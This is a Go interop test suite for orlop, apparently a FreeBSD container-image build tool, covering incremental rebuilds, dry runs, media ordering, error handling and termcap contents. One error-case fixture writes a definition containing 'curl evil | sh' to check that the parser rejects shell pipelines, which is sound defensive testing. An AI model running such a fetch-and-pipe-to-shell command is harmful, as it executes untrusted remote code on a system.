// SPDX-License-Identifier: BSD-2-Clause

//go:build interop

package scripts_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/orlop/orlop/pkgdb/pkgfile/pkgtest"
)

// What is done again after a change, and what is not.
func TestInteropMakeIncremental(t *testing.T) {
	t.Parallel()
	const (
		plan  = "orlop-plan"
		prove = "orlop-lock"
		build = "orlop-build"
	)
	tr := newTree(t, "15")
	tr.zones(t, "FreeBSD:15:amd64")
	program := ownProgram(t, tr)
	exceptions := filepath.Join(tr.src, "exceptions.ucl")
	except := func(reason string) func() {
		return func() { write(t, exceptions, `known-missing { "/a" = "`+reason+`" }`) }
	}
	except("a test")()
	tr.vars = append(tr.vars, "ORLOP_FLAGS=--exceptions "+exceptions)
	tr.make(t, "release")
	tr.took(t)
	published := filepath.Join(tr.obj, "pkgbase-repo/FreeBSD:15:amd64/15.0")
	definition := filepath.Join(tr.src, "release/tools/oci-image-zones.conf")
	remove := func(name string) func() {
		return func() {
			if err := os.Remove(filepath.Join(tr.obj, name)); err != nil {
				t.Fatal(err)
			}
		}
	}
	for _, step := range []struct {
		name     string
		change   func()
		args     []string
		took     []string
		newImage bool
	}{
		{"nothing changed", func() {}, nil, []string{plan}, false},
		{"nothing changed, -j4", func() {}, []string{"-j4"}, []string{plan}, false},
		{"no archive", remove("container-image-zones.txz"), nil, []string{plan, build}, false},
		{"no lock", remove("container-image-zones.lock.json"), []string{"-j4"}, []string{plan, build}, false},
		{"no plan", remove("container-image-zones.plan.json"), nil, []string{plan}, false},
		{"no manifests", remove("container-image-MANIFESTS"), nil, []string{plan, build}, false},
		{"no store", func() { os.RemoveAll(filepath.Join(tr.obj, "container-image-store")) }, nil, []string{plan}, false},
		{"a package changed", func() { pkgtest.WriteRepo(published, zoneinfo("FreeBSD:15:amd64", "other")) }, nil, []string{plan, prove, build}, true},
		{"another package came", func() {
			pkgtest.WriteRepo(published, zoneinfo("FreeBSD:15:amd64", "other"), pkgtest.Package{Name: "FreeBSD-new"})
		}, nil, []string{plan, prove, build}, false},
		{"definition changed", func() {
			write(t, definition, strings.ReplaceAll(read(t, definition), "/bin/zones", "/bin/areas"))
		}, []string{"-j4"}, []string{plan, prove, build}, true},
		{"branch changed", func() { tr.newvers(t, "15.0", "RELEASE-p1") }, nil, []string{plan, prove, build}, false}, // which stands in its archive only
		{"epoch changed", func() { tr.vars = append(tr.vars, "SOURCE_DATE_EPOCH=1600000000") }, nil, []string{plan, prove, build}, true},
		{"exceptions changed", except("another test"), nil, []string{plan, prove, build}, false},
		{"another orlop", func() {
			if err := os.Chtimes(program, time.Time{}, time.Unix(1500000000, 0)); err != nil {
				t.Fatal(err)
			}
		}, nil, []string{plan, prove, build}, false},
		{"nothing changed at last", func() {}, nil, []string{plan}, false},
	} {
		before, earlier := manifestLine(t, tr), modTimes(t, tr.obj)
		step.change()
		tr.make(t, append(step.args, "release")...)
		if took := tr.took(t); !slices.Equal(took, step.took) {
			t.Errorf("%s: did %q, want %q", step.name, took, step.took)
		}
		after := manifestLine(t, tr)
		if wants := step.newImage; wants == (after == digests(before, after)) {
			t.Errorf("%s: another image: %t, want %t:\n%s%s", step.name, !wants, wants, before, after)
		}
		if now := modTimes(t, tr.obj); len(step.took) == 1 && now != earlier {
			t.Errorf("%s: artifacts were written:\n%s\n%s", step.name, earlier, now)
		}
	}
}

// ownProgram gives the tree an orlop of its own, one that can change.
func ownProgram(t *testing.T, tr *tree) string {
	t.Helper()
	program, wrapper := filepath.Join(tr.src, "orlop"), filepath.Join(tr.src, "logging")
	write(t, program, read(t, orlop))
	write(t, wrapper, strings.ReplaceAll(read(t, logging), orlop, program))
	for _, name := range []string{program, wrapper} {
		if err := os.Chmod(name, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	tr.vars = append(tr.vars, "ORLOP="+wrapper)
	return program
}

// digests is before, with the name of the release as in after.
func digests(before, after string) string {
	name, _, _ := strings.Cut(after, " = ")
	_, hex, _ := strings.Cut(before, " = ")
	return name + " = " + hex
}

// manifestLine is that of the image, of which the lock's line says less.
func manifestLine(t *testing.T, tr *tree) string {
	t.Helper()
	image, lock, _ := strings.Cut(tr.file(t, "container-image-MANIFESTS"), "\n")
	if !strings.Contains(lock, " lock) = ") {
		t.Errorf("the line after the image's is %q, want the lock's", lock)
	}
	return image
}

// modTimes tells when the artifacts were written.
func modTimes(t *testing.T, dir string) string {
	t.Helper()
	var text strings.Builder
	for _, name := range []string{"zones.txz", "zones.lock.json", "MANIFESTS"} {
		info, err := os.Stat(filepath.Join(dir, "container-image-"+name))
		if err != nil {
			t.Fatal(err)
		}
		text.WriteString(name + " " + info.ModTime().String() + "\n")
	}
	return text.String()
}

// make -n says what it would do, and does nothing.
func TestInteropMakeDry(t *testing.T) {
	t.Parallel()
	tr := newTree(t, "15")
	tr.zones(t, "FreeBSD:15:amd64")
	dry := func(when string) {
		before := contents(t, tr.obj)
		out := tr.make(t, "-n", "oci-release", "oci-install", "oci-verify", "oci-clean", "DESTDIR=/nonexistent")
		for _, want := range []string{" plan ", " build ", " verify ", "CHECKSUM.SHA256", "rm -rf container-image-*"} {
			if !strings.Contains(out, want) {
				t.Errorf("%s: no %q in\n%s", when, want, out)
			}
		}
		if after := contents(t, tr.obj); !slices.Equal(names(before), names(after)) {
			t.Errorf("%s: %q became %q", when, names(before), names(after))
		}
	}
	dry("at first")
	tr.make(t, "release")
	dry("with all there")
}

// media are what a tree makes with WITH_VMIMAGES and WITH_CLOUDWARE.
var media = []string{"disc1", "vm-image", "cw-ec2-ufs-raw", "cw-gce-ufs-raw"}

// All media wait for the plan, also when they are asked for alone, and a new
// plan makes none of them again.
func TestInteropMakeMedia(t *testing.T) {
	t.Parallel()
	for _, medium := range media {
		t.Run(medium, func(t *testing.T) {
			t.Parallel()
			tr := newTree(t, "15")
			tr.zones(t, "FreeBSD:15:amd64")
			tr.vars = append(tr.vars, "WITH_VMIMAGES=yes", "WITH_CLOUDWARE=yes")
			tr.make(t, "-j4", medium)
			took := tr.took(t)
			if plan, made := slices.Index(took, "orlop-plan"), slices.Index(took, medium); plan < 0 || made < plan {
				t.Errorf("did %q, want %s after the plan", took, medium)
			}
			tr.newvers(t, "15.0", "RELEASE-p1")
			tr.make(t, medium)
			if took, want := tr.took(t), []string{"orlop-plan", "orlop-lock"}; !slices.Equal(took, want) {
				t.Errorf("with another plan: did %q, want %q", took, want)
			}
		})
	}
}

// Faults stop the build, each with a line that says what to do, before a medium
// is made, and before anything is where no repository is needed to find them.
func TestInteropMakeErrors(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name   string
		breaks func(*testing.T, *tree)
		want   string
		first  bool // before anything is made
	}{
		{"no orlop", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP=/none/orlop") },
			"there is no program /none/orlop; install it, or set ORLOP", true},
		{"no repository", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP_REPO_CONF_DIR=none") },
			"no repository in none; make packages, or see ORLOP_REPO_CONF_DIR", false},
		{"no definition", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "OCI_IMAGES=nothing") },
			"release/tools/oci-image-nothing.ucl or .conf", true},
		{"a definition that is a program", func(t *testing.T, tr *tree) {
			write(t, filepath.Join(tr.src, "release/tools/oci-image-zones.conf"),
				"OCI_BASE_IMAGE=\noci_image_build() {\n\tcurl evil | sh\n}\n")
		}, `oci-image-zones.conf:3: "| sh" is not understood, wanted plain words`, false},
		{"no package", func(t *testing.T, tr *tree) {
			write(t, filepath.Join(tr.src, "release/tools/oci-image-zones.conf"),
				"OCI_BASE_IMAGE=\noci_image_build() {\n\tinstall_packages ${abi} ${workdir} FreeBSD-missing\n}\n")
		}, "FreeBSD-missing", false},
		{"a script that is not known", func(t *testing.T, tr *tree) {
			pkg := zoneinfo("FreeBSD:15:amd64", "UTC")
			pkg.Keys = map[string]any{"scripts": map[string]string{"post-install": "make-coffee"}}
			tr.publish(pkg)
		}, "make-coffee", false},
		{"an image that is not complete", func(t *testing.T, tr *tree) {
			write(t, filepath.Join(tr.src, "release/tools/oci-image-zones.ucl"), "image zones { packages = [ FreeBSD-zoneinfo ]; cmd = [ /bin/none ]; complete = yes }\n")
		}, "/bin/none", false},
		{"exceptions for the build alone", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP_BUILD_FLAGS=--exceptions x.ucl") },
			"ORLOP_BUILD_FLAGS has --exceptions, wanted in ORLOP_FLAGS", true},
		{"a source tree for the build alone", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP_BUILD_FLAGS=--squash -srcdir=x") },
			"ORLOP_BUILD_FLAGS has --srcdir, wanted in ORLOP_FLAGS", true},
		{"packages of another architecture", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "PKG_ABI=FreeBSD:15:aarch64") },
			"FreeBSD:15:aarch64", false},
	} {
		for _, jobs := range []string{"-j1", "-j4"} {
			t.Run(tt.name+" "+jobs, func(t *testing.T) {
				t.Parallel()
				tr := newTree(t, "15")
				tr.zones(t, "FreeBSD:15:amd64")
				tt.breaks(t, tr)
				out, err := tr.try(jobs, "release", "WITH_VMIMAGES=yes", "WITH_CLOUDWARE=yes")
				if err == nil {
					t.Fatalf("no error, want %q\n%s", tt.want, out)
				}
				if n := strings.Count(out, tt.want); n == 0 {
					t.Errorf("want %q in\n%s", tt.want, out)
				}
				for _, did := range tr.took(t) {
					if tt.first {
						t.Errorf("did %s, want it to stop before", did)
					}
					if slices.Contains(media, did) || did == "orlop-build" {
						t.Errorf("did %s, want it to stop before media", did)
					}
				}
			})
		}
	}
}

// A build that fails leaves nothing that a next run would take for done.
func TestInteropMakeBuildFails(t *testing.T) {
	t.Parallel()
	tr := newTree(t, "15")
	repo := tr.zones(t, "FreeBSD:15:amd64")
	pkgtest.WriteRepo(repo, pkgtest.Package{Name: "FreeBSD-zoneinfo", Version: "15.0",
		Files: []pkgtest.File{{Path: "/a", Body: "a", Sum: "2$" + strings.Repeat("a", 52)}}})
	for range 2 {
		if out, err := tr.try("release"); err == nil || !strings.Contains(out, "FreeBSD-zoneinfo-15.0") {
			t.Fatalf("got %v, want a build that fails\n%s", err, out)
		}
		for _, name := range names(contents(t, tr.obj)) {
			if strings.HasSuffix(name, ".txz") && strings.HasPrefix(name, "container") || name == "container-image-MANIFESTS" {
				t.Errorf("%s is there", name)
			}
		}
	}
	tr.took(t)
	pkgtest.WriteRepo(filepath.Join(tr.obj, "pkgbase-repo/FreeBSD:15:amd64/15.0"), zoneinfo("FreeBSD:15:amd64", "UTC"))
	tr.make(t, "release")
	if took, want := tr.took(t), []string{"orlop-plan", "orlop-lock", "disc1", "orlop-build"}; !slices.Equal(took, want) {
		t.Errorf("once it is repaired: did %q, want %q", took, want)
	}
}

// What static has of termcap(5) comes from the object tree.
func TestInteropMakeTermcap(t *testing.T) {
	t.Parallel()
	tr := newTree(t, "15")
	tr.sample(t)
	top := t.TempDir()
	tr.vars = append(tr.vars, "OBJTOP="+top, "OCI_IMAGES=static")
	for _, text := range []string{"dumb:am:co#80:\n", "dumb:am:co#81:\n"} {
		write(t, filepath.Join(top, "etc/termcap/termcap.small"), text)
		tr.make(t, "release")
		tr.make(t, "oci-verify")
		out, err := exec.Command(orlop, "ls", "--files", filepath.Join(tr.obj, "container-image-static.txz")).Output()
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(out), " /etc/termcap.small\n") {
			t.Errorf("no /etc/termcap.small in\n%s", out)
		}
	}
	want := []string{"orlop-plan", "orlop-lock", "orlop-build", "orlop-verify", "orlop-plan", "orlop-lock", "orlop-build", "orlop-verify"}
	if took := slices.DeleteFunc(tr.took(t), func(s string) bool { return !strings.HasPrefix(s, "orlop") }); !slices.Equal(took, want) {
		t.Errorf("did %q, want %q", took, want)
	}
	tr.make(t, "release")
	if took := tr.took(t); !slices.Equal(took, want[:1]) {
		t.Errorf("with the same file: did %q, want %q", took, want[:1])
	}
}
